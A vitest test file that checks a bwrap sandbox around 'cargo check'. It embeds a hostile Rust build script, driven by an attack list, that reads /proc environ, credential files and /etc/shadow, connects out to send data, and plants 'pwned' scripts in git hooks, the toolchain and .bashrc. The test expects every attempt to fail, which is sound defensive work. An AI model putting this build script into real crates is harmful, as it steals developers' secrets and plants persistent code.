import { existsSync, mkdirSync, readFileSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { runCheck } from '../../src/check/run-check.js';
import { realToolchainHomes, tempRoot, writeBuildScriptCrate, writeFiles } from './check-crates.js';

/**
 * A build script that does what attack.txt says (one `verb argument` per line) and writes
 * what happened to $CARGO_TARGET_DIR/hostile-report.txt, which the test reads from outside.
 */
const HOSTILE_BUILD_RS = `use std::{env, fs, io::Write, net::{SocketAddr, TcpStream}, path::Path, time::Duration};

fn outcome<T>(result: std::io::Result<T>) -> String {
    match result { Ok(_) => "ok".to_string(), Err(e) => format!("denied: {}", e) }
}

fn main() {
    let dir = env::var("CARGO_MANIFEST_DIR").unwrap();
    let mut report = String::new();
    for (key, value) in env::vars() { report.push_str(&format!("ENV {}={}\\n", key, value)); }
    report.push_str(&format!("PPID {}\\n", std::os::unix::process::parent_id()));
    let attack = fs::read_to_string(Path::new(&dir).join("attack.txt")).unwrap();
    for line in attack.lines().filter(|l| !l.is_empty()) {
        let (verb, arg) = line.split_once(' ').unwrap();
        match verb {
            "environ" => {
                for entry in fs::read_dir("/proc").unwrap().flatten() {
                    let path = entry.path().join("environ");
                    if let Ok(bytes) = fs::read(&path) {
                        report.push_str(&format!("PROC {} {}\\n", path.display(), String::from_utf8_lossy(&bytes).replace('\\0', " ")));
                    }
                }
            }
            "connect" => {
                let addr: SocketAddr = arg.parse().unwrap();
                let result = TcpStream::connect_timeout(&addr, Duration::from_secs(3)).and_then(|mut s| s.write_all(b"exfiltrated"));
                report.push_str(&format!("NET {} {}\\n", arg, outcome(result)));
            }
            "append" => {
                let result = fs::OpenOptions::new().append(true).open(arg).and_then(|mut f| f.write_all(b"\\n// injected\\n"));
                report.push_str(&format!("APPEND {} {}\\n", arg, outcome(result)));
            }
            "create" => {
                let path = Path::new(arg);
                let result = fs::create_dir_all(path.parent().unwrap()).and_then(|_| fs::write(path, b"#!/bin/sh\\necho pwned\\n"));
                report.push_str(&format!("CREATE {} {}\\n", arg, outcome(result)));
            }
            "read" => match fs::read_to_string(arg) {
                Ok(text) => report.push_str(&format!("READ {} ok {}\\n", arg, text)),
                Err(e) => report.push_str(&format!("READ {} denied: {}\\n", arg, e)),
            },
            _ => panic!("unknown verb {}", verb),
        }
    }
    let target = env::var("CARGO_TARGET_DIR").unwrap();
    fs::write(Path::new(&target).join("hostile-report.txt"), &report).unwrap();
    println!("cargo:warning=hostile build script finished");
}
`;

const SECRET = `scrum-test-secret-${process.pid}-${Date.now()}`;
const TOKEN = `ghp_${'A'.repeat(20)}${process.pid}`;
const GITCONFIG_MARKER = `gitconfig-marker-${process.pid}`;
const CREDENTIALS_MARKER = `cio-credential-marker-${process.pid}`;

const cleanups: Array<() => void> = [];
afterEach(() => {
  for (const cleanup of cleanups.splice(0)) cleanup();
});
// Should the sandbox ever fail, do not leave the build script's files in the real toolchain.
const TOOLCHAIN_TARGETS = [
  join(realToolchainHomes().CARGO_HOME, 'bin', 'pwned-by-build-script'),
  join(realToolchainHomes().RUSTUP_HOME, 'pwned-by-build-script'),
];
afterAll(() => {
  for (const path of TOOLCHAIN_TARGETS) rmSync(path, { force: true });
});
// Set in the bot's own process environment too: nothing may copy process.env wholesale.
beforeAll(() => {
  process.env.SCRUM_TEST_SECRET = SECRET;
  process.env.GITHUB_TOKEN = TOKEN;
});
afterAll(() => {
  delete process.env.SCRUM_TEST_SECRET;
  delete process.env.GITHUB_TOKEN;
});

interface Setup {
  root: string;
  crate: string;
  targetDir: string;
  realHome: string;
  cargoHome: string;
  env: NodeJS.ProcessEnv;
}

/** A hostile crate, a fake real HOME with a .gitconfig, a CARGO_HOME with a registry token. */
function setUp(attack: (s: Omit<Setup, 'env' | 'targetDir'>) => string[]): Setup {
  const { root, cleanup } = tempRoot('scrum-apply-hostile-');
  cleanups.push(cleanup);
  const realHome = join(root, 'home');
  const cargoHome = join(root, 'cargo-home');
  writeFiles(realHome, { '.gitconfig': `[user]\n  name = ${GITCONFIG_MARKER}\n` });
  writeFiles(cargoHome, { 'credentials.toml': `[registry]\ntoken = "${CREDENTIALS_MARKER}"\n` });
  const crate = join(root, 'repo');
  mkdirSync(join(crate, '.git', 'hooks'), { recursive: true });
  const partial = { root, crate, realHome, cargoHome };
  writeBuildScriptCrate(crate, 'hostile', HOSTILE_BUILD_RS, { 'attack.txt': `${attack(partial).join('\n')}\n` });
  const env: NodeJS.ProcessEnv = {
    ...process.env,
    ...realToolchainHomes(),
    HOME: realHome,
    CARGO_HOME: cargoHome,
    SCRUM_TEST_SECRET: SECRET,
    GITHUB_TOKEN: TOKEN,
  };
  return { ...partial, targetDir: join(root, 'target'), env };
}

function readReport(targetDir: string): string {
  const path = join(targetDir, 'hostile-report.txt');
  expect(existsSync(path), 'the build script ran and wrote its report').toBe(true);
  return readFileSync(path, 'utf8');
}

function envNames(report: string): string[] {
  return [...report.matchAll(/^ENV ([^=]+)=/gm)].map((match) => match[1] ?? '');
}

describe('a hostile build script in the bwrap sandbox', () => {
  let server: Server;
  let connections = 0;
  let port = 0;
  beforeAll(async () => {
    server = createServer((socket) => {
      connections += 1;
      socket.destroy();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const address = server.address();
    port = typeof address === 'object' && address ? address.port : 0;
  });
  afterAll(async () => {
    await new Promise((resolve) => server.close(resolve));
  });

  it('sees no secret, no network, no writable source, no real HOME and no registry token', async () => {
    const [inCargoBin = '', inRustupHome = ''] = TOOLCHAIN_TARGETS;
    const s = setUp(({ crate, realHome, cargoHome }) => [
      'environ -',
      `connect 127.0.0.1:${port}`,
      `append ${join(crate, 'src/lib.rs')}`,
      'append /scrum-apply/tree/src/lib.rs',
      `create ${join(crate, '.git/hooks/post-checkout')}`,
      `create ${join(crate, 'pwned.txt')}`,
      `create ${inCargoBin}`,
      `create ${inRustupHome}`,
      `create ${join(cargoHome, 'registry', 'pwned-by-build-script')}`,
      `create ${join(realHome, '.bashrc')}`,
      `read ${join(realHome, '.gitconfig')}`,
      'read /root/.gitconfig',
      `read ${join(cargoHome, 'credentials.toml')}`,
      'read /etc/shadow',
    ]);
    const libBefore = readFileSync(join(s.crate, 'src/lib.rs'), 'utf8');

    const result = await runCheck({ command: 'cargo check', cwd: s.crate, targetDir: s.targetDir, timeoutMs: 120_000, sandbox: 'bwrap', env: s.env });
    expect(result.output).toContain('hostile build script finished');
    expect(result).toMatchObject({ exitCode: 0, green: true, sandboxed: true });
    const report = readReport(s.targetDir);

    // Environment: the allow-list, HOME replaced by the sandbox's own; nothing of ours.
    const names = envNames(report);
    expect(names).not.toContain('SCRUM_TEST_SECRET');
    expect(names).not.toContain('GITHUB_TOKEN');
    expect(report).toMatch(/^ENV HOME=\/tmp\/\.scrum-apply-home$/m);
    expect(report).toMatch(/^ENV CARGO_NET_OFFLINE=true$/m);
    // /proc/1/environ (bwrap, started with an empty environment) and every other process
    // in the sandbox (cargo, the build script's parent) were readable — and clean.
    expect(report).toMatch(/^PROC \/proc\/1\/environ/m);
    const ppid = /^PPID (\d+)$/m.exec(report)?.[1];
    expect(report).toContain(`PROC /proc/${ppid}/environ`);
    for (const text of [report, result.output]) {
      expect(text).not.toContain(SECRET);
      expect(text).not.toContain(TOKEN);
      expect(text).not.toContain(GITCONFIG_MARKER);
      expect(text).not.toContain(CREDENTIALS_MARKER);
    }

    // Network: a new network namespace; the server never saw a connection.
    expect(report).toMatch(new RegExp(`^NET 127\\.0\\.0\\.1:${port} denied: .*refused`, 'm'));
    expect(connections).toBe(0);

    // Files: the source tree, the toolchain and the real HOME are read-only or invisible.
    // The tree is read-only where the sandbox shows it; its host path is not there at all.
    expect(report).toMatch(/^APPEND \/scrum-apply\/tree\/src\/lib\.rs denied: Read-only file system/m);
    expect(report).toMatch(new RegExp(`^APPEND ${join(s.crate, 'src/lib.rs').replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} denied: `, 'm'));
    expect(readFileSync(join(s.crate, 'src/lib.rs'), 'utf8')).toBe(libBefore);
    for (const path of [
      join(s.crate, '.git/hooks/post-checkout'),
      join(s.crate, 'pwned.txt'),
      inCargoBin,
      inRustupHome,
      join(s.cargoHome, 'registry', 'pwned-by-build-script'),
      join(s.realHome, '.bashrc'),
    ]) {
      expect(existsSync(path), `${path} must not exist on the host`).toBe(false);
    }
    expect(report).toMatch(/^READ \/etc\/shadow denied/m);
    expect(report).not.toMatch(/^READ .* ok /m);
  });
});

describe('a hostile build script without a sandbox', () => {
  it('still sees only the allow-listed environment', async () => {
    const s = setUp(() => []);
    const result = await runCheck({ command: 'cargo check', cwd: s.crate, targetDir: s.targetDir, timeoutMs: 120_000, sandbox: 'none', env: s.env });
    expect(result).toMatchObject({ exitCode: 0, green: true, sandboxed: false });
    const report = readReport(s.targetDir);
    const names = envNames(report);
    expect(names).toEqual(expect.arrayContaining(['PATH', 'HOME', 'CARGO_HOME', 'RUSTUP_HOME', 'CARGO_TARGET_DIR']));
    expect(names).not.toContain('SCRUM_TEST_SECRET');
    expect(names).not.toContain('GITHUB_TOKEN');
    expect(report).not.toContain(SECRET);
    expect(report).not.toContain(TOKEN);
    // Unsandboxed, HOME is the bot's own (the sandbox is what hides it).
    expect(report).toContain(`ENV HOME=${s.realHome}\n`);
  });
});
